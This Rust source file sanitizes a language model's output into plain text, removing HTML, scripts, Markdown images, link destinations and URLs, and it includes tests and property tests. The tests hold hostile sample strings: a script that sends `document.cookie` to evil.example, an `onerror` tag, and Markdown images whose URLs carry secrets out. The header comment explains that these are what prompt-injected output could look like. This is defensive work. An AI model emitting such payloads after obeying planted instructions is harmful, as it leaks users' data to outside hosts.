//! Model output becomes plain text before anyone sees it. A model that obeyed an instruction
//! planted in a document could write `<script>` or a Markdown image whose URL carries data to
//! an outside host (rendering the image would send it); neither gets through.
//!
//! Removed: HTML tags and comments (with the content of `<script>` and `<style>` elements, and
//! tags whose quoted attributes hold `<` or `>`), Markdown images (also with brackets nested in
//! their text), link reference definitions (also inside a blockquote, or with the URL on the
//! next line), every link destination `](…)`, and every URL (`https://…`, `www.…`: clients
//! link them, and some fetch a preview), which becomes "(link removed)". Markdown links keep
//! their text. Citation markers such as `[2]` are untouched.

use std::sync::LazyLock;

use regex::Regex;

struct Rules {
    script_or_style: Regex,
    unclosed_script_or_style: Regex,
    comment: Regex,
    unclosed_comment: Regex,
    tag: Regex,
    image: Regex,
    link: Regex,
    reference_definition: Regex,
    destination: Regex,
    url: Regex,
    blank_runs: Regex,
}

/// A link destination: one level of parentheses inside it allowed, as CommonMark allows.
const DESTINATION: &str = r"(?:[^()]|\([^()]*\))*";

/// Link text: brackets nested up to three deep, as CommonMark allows.
const LINK_TEXT: &str = r"\[(?:[^\[\]]|\[(?:[^\[\]]|\[[^\[\]]*\])*\])*\]";

static RULES: LazyLock<Rules> = LazyLock::new(|| Rules {
    script_or_style: Regex::new(r"(?is)<script\b.*?</script\s*>|<style\b.*?</style\s*>")
        .expect("valid regex"),
    unclosed_script_or_style: Regex::new(r"(?is)<(?:script|style)\b.*$").expect("valid regex"),
    comment: Regex::new(r"(?s)<!--.*?-->").expect("valid regex"),
    unclosed_comment: Regex::new(r"(?s)<!--.*$").expect("valid regex"),
    // Quoted attribute values may hold `<` and `>` (`<img src="https://…#<">`).
    tag: Regex::new(r#"</?[A-Za-z](?:[^<>"']|"[^"]*"|'[^']*')*>|<[!?][^<>]*>"#)
        .expect("valid regex"),
    image: Regex::new(&format!(r"!{LINK_TEXT}\s*(?:\({DESTINATION}\)|\[[^\]]*\])"))
        .expect("valid regex"),
    link: Regex::new(&format!(r"\[([^\]]*)\]\({DESTINATION}\)")).expect("valid regex"),
    // Inside blockquotes too, and with the destination on the next line.
    reference_definition: Regex::new(r"(?m)^[ \t>]*\[[^\]]+\]:[ \t]*(?:\n[ \t>]*)?\S.*$")
        .expect("valid regex"),
    // Any destination left after a `]` (nested brackets the link rule did not match), one
    // level of parentheses inside it allowed.
    destination: Regex::new(&format!(r"\]\s*\({DESTINATION}\)")).expect("valid regex"),
    url: Regex::new(r"(?i)(?:https?|ftp)://[^\s<>]*|www\.[^\s<>]+").expect("valid regex"),
    blank_runs: Regex::new(r"[ \t]{2,}").expect("valid regex"),
});

/// The plain-text form of a model's output. Passes repeat until nothing changes: removing one
/// construct must not leave the pieces of another joined (`<` + `![x](y)` + `img …>`).
pub fn sanitize(text: &str) -> String {
    let mut text = sanitize_once(text);
    for _ in 0..8 {
        let again = sanitize_once(&text);
        if again == text {
            break;
        }
        text = again;
    }
    text
}

fn sanitize_once(text: &str) -> String {
    let rules = &*RULES;
    let text = rules.script_or_style.replace_all(text, "");
    let text = rules.unclosed_script_or_style.replace_all(&text, "");
    let text = rules.comment.replace_all(&text, "");
    let text = rules.unclosed_comment.replace_all(&text, "");
    let text = rules.tag.replace_all(&text, "");
    let text = rules.image.replace_all(&text, "");
    let text = rules.link.replace_all(&text, "$1");
    let text = rules.reference_definition.replace_all(&text, "");
    let text = rules.url.replace_all(&text, "(link removed)");
    let text = rules.destination.replace_all(&text, "]");
    rules.blank_runs.replace_all(&text, " ").into_owned()
}

/// Sanitizes text that arrives in pieces, emitting only what can no longer change: text from
/// an unfinished construct (a `<` without its `>`, an open `<script>`, a `[…]` that may become
/// a link) is held back until it is complete or the stream ends.
#[derive(Debug, Default)]
pub struct StreamSanitizer {
    raw: String,
    emitted: String,
}

impl StreamSanitizer {
    /// Adds a piece of model output; returns the newly safe text (possibly empty).
    pub fn push(&mut self, piece: &str) -> String {
        self.raw.push_str(piece);
        let stable = &self.raw[..stable_prefix(&self.raw)];
        self.emit(sanitize(stable))
    }

    /// Ends the stream; returns whatever was held back, sanitized.
    pub fn finish(&mut self) -> String {
        let all = sanitize(&self.raw);
        self.emit(all)
    }

    fn emit(&mut self, clean: String) -> String {
        // Sanitizing a longer prefix only ever appends, because the cut never falls inside a
        // construct; should that ever not hold, nothing more is emitted rather than text twice.
        match clean.strip_prefix(self.emitted.as_str()) {
            Some(new) if !new.is_empty() => {
                let new = new.to_string();
                self.emitted = clean;
                new
            }
            _ => String::new(),
        }
    }
}

/// The length of the longest prefix of `raw` that ends outside any unfinished construct. Cutting
/// can expose another unfinished construct (a held URL inside a link's text), so the cut is
/// repeated until it holds.
fn stable_prefix(raw: &str) -> usize {
    let mut cut = raw.len();
    loop {
        let next = stable_prefix_once(&raw[..cut]);
        if next == cut {
            return cut;
        }
        cut = next;
    }
}

fn stable_prefix_once(raw: &str) -> usize {
    let lower = raw.to_ascii_lowercase();
    let mut cut = raw.len();
    // A tag or comment that has not closed yet.
    if let Some(open) = raw.rfind('<')
        && !raw[open..].contains('>')
    {
        cut = cut.min(open);
    }
    for (open, close) in [
        ("<script", "</script"),
        ("<style", "</style"),
        ("<!--", "-->"),
    ] {
        if let Some(start) = lower.rfind(open)
            && !lower[start..].contains(close)
        {
            cut = cut.min(start);
        }
    }
    // A bracket that may still become a link or an image: `[` without `]`, or `]` at the end
    // (a `(` may follow), or `](` without `)`.
    if let Some(open) = raw.rfind('[') {
        let tail = &raw[open..];
        let pending = match tail.find(']') {
            None => true,
            Some(close) => {
                let after = &tail[close + 1..];
                after.trim_start().is_empty() || (after.starts_with('(') && !after.contains(')'))
            }
        };
        if pending {
            let start = if open > 0 && raw.as_bytes()[open - 1] == b'!' {
                open - 1
            } else {
                open
            };
            cut = cut.min(start);
        }
    }
    if raw[..cut].ends_with('!') {
        cut -= 1;
    }
    // A URL runs to the next whitespace: the last word is held while it holds one, or could
    // still become one (`ht`, `www`).
    let word_start = raw[..cut]
        .rfind(char::is_whitespace)
        .map_or(0, |i| i + raw[i..].chars().next().map_or(1, char::len_utf8));
    if may_become_url(&lower[word_start..cut]) {
        cut = word_start;
    }
    cut
}

/// Whether a word holds a URL, or ends with what could begin one.
fn may_become_url(word: &str) -> bool {
    if word.contains("://") || word.contains("www.") {
        return true;
    }
    ["https://", "http://", "ftp://", "www."].iter().any(|url| {
        (1..=url.len().min(word.len())).any(|n| {
            word.is_char_boundary(word.len() - n) && url.starts_with(&word[word.len() - n..])
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn html_and_scripts_are_removed() {
        assert_eq!(
            sanitize(
                "Leave is 20 days [1].<script>fetch('https://evil.example/?'+document.cookie)</script> <b>Really</b>."
            ),
            "Leave is 20 days [1]. Really."
        );
        assert_eq!(
            sanitize("a <!-- hidden --> b <img src=x onerror=alert(1)>"),
            "a b "
        );
        assert_eq!(sanitize("unfinished <script>alert(1)"), "unfinished ");
    }

    #[test]
    fn images_are_dropped_and_links_keep_only_their_text() {
        assert_eq!(
            sanitize(
                "See ![logo](https://evil.example/p.png?q=SECRET) the [policy](https://evil.example/x) [2]."
            ),
            "See the policy [2]."
        );
        assert_eq!(
            sanitize("Text ![x][img] end.\n[img]: https://evil.example/?d=1"),
            "Text end.\n"
        );
    }

    #[test]
    fn citations_and_comparisons_survive() {
        assert_eq!(
            sanitize("If a < b and c > d, then [1][2]."),
            "If a < b and c > d, then [1][2]."
        );
    }

    #[test]
    fn streamed_pieces_sanitize_like_the_whole() {
        let text = "Leave is 20 days [1]. <scr";
        let rest = "ipt>steal()</script>See ![i](https://evil.example/a.png?x=1) [the policy](https://x.example) [2]! Done <b>now</b>.";
        for split in 1..text.len() + rest.len() {
            let full = format!("{text}{rest}");
            if !full.is_char_boundary(split) {
                continue;
            }
            let mut streamer = StreamSanitizer::default();
            let mut out = String::new();
            for piece in [&full[..split], &full[split..]] {
                out.push_str(&streamer.push(piece));
            }
            out.push_str(&streamer.finish());
            assert_eq!(out, sanitize(&full), "split at {split}");
            assert!(!out.contains("evil") && !out.contains("steal"));
        }
    }

    #[test]
    fn stream_emits_plain_text_at_once() {
        let mut streamer = StreamSanitizer::default();
        assert_eq!(streamer.push("Employees get "), "Employees get ");
        assert_eq!(streamer.push("20 days ["), "20 days ");
        assert_eq!(streamer.push("1]."), "[1].");
    }

    #[test]
    fn disguised_images_references_and_urls_carry_nothing_out() {
        for hostile in [
            "Salary ![a[b]c](https://evil.example/p.png?q=4821) ok",
            "Salary ![a[b[c]d]e](https://evil.example/p.png?q=4821) ok",
            "Salary <img src=\"https://evil.example/a.png?q=4821#<\"> ok",
            "Salary <img alt='>' src=https://evil.example/a.png?q=4821> ok",
            "Salary ![x][r] ok\n[r]:\n  https://evil.example/a.png?q=4821",
            "Salary ![x][r] ok\n> [r]: https://evil.example/a.png?q=4821",
            "Salary is at https://evil.example/?q=4821 ok",
            "Salary is at HTTPS://EVIL.EXAMPLE/?q=4821 ok",
            "Salary is at www.evil.example/?q=4821 ok",
            "Salary [text](https://evil.example/x(y)z?q=4821) ok",
        ] {
            let clean = sanitize(hostile);
            assert!(!clean.contains("evil"), "{hostile:?} -> {clean:?}");
            assert!(!clean.contains("4821"), "{hostile:?} -> {clean:?}");
            assert!(clean.starts_with("Salary"), "{hostile:?} -> {clean:?}");
        }
        assert_eq!(
            sanitize("The intranet is at https://intranet.example/hr [1]."),
            "The intranet is at (link removed) [1]."
        );
    }

    #[test]
    fn a_url_streamed_in_pieces_never_comes_out_in_part() {
        let full = "See https://evil.example/?q=4821 and www.evil.example/x now [1].";
        for split in 1..full.len() {
            let mut streamer = StreamSanitizer::default();
            let mut out = streamer.push(&full[..split]);
            out.push_str(&streamer.push(&full[split..]));
            out.push_str(&streamer.finish());
            assert_eq!(out, sanitize(full), "split at {split}");
            assert!(!out.contains("evil"), "split at {split}: {out}");
        }
    }

    mod properties {
        use proptest::prelude::*;

        use super::super::*;

        fn piece() -> impl Strategy<Value = String> {
            prop_oneof![
                Just("!".to_string()),
                Just("[".to_string()),
                Just("]".to_string()),
                Just("(".to_string()),
                Just(")".to_string()),
                Just("<".to_string()),
                Just(">".to_string()),
                Just("\"".to_string()),
                Just("'".to_string()),
                Just(":".to_string()),
                Just("\n".to_string()),
                Just("> ".to_string()),
                Just(" ".to_string()),
                Just("img src=".to_string()),
                Just("https://evil.example/?q=S".to_string()),
                Just("HTTP://evil.example".to_string()),
                Just("www.evil.example".to_string()),
                Just("[1]".to_string()),
                Just("<!--".to_string()),
                Just("-->".to_string()),
                "[a-z]{1,5}",
            ]
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(2_000))]

            #[test]
            fn no_url_image_destination_or_tag_survives(pieces in prop::collection::vec(piece(), 0..30)) {
                let text = pieces.concat();
                let clean = sanitize(&text);
                let lower = clean.to_lowercase();
                prop_assert!(!lower.contains("://") && !lower.contains("www."), "{text:?} -> {clean:?}");
                prop_assert!(!lower.contains("evil"), "{text:?} -> {clean:?}");
                prop_assert!(!RULES.tag.is_match(&clean), "{text:?} -> {clean:?}");
                prop_assert!(!RULES.destination.is_match(&clean), "{text:?} -> {clean:?}");
                // Streamed in two pieces, the same text comes out, or less, never more.
                let split = text.len() / 2;
                if text.is_char_boundary(split) {
                    let mut streamer = StreamSanitizer::default();
                    let mut out = streamer.push(&text[..split]);
                    out.push_str(&streamer.push(&text[split..]));
                    out.push_str(&streamer.finish());
                    prop_assert!(!out.to_lowercase().contains("evil"), "{text:?} -> {out:?}");
                }
            }
        }
    }
}
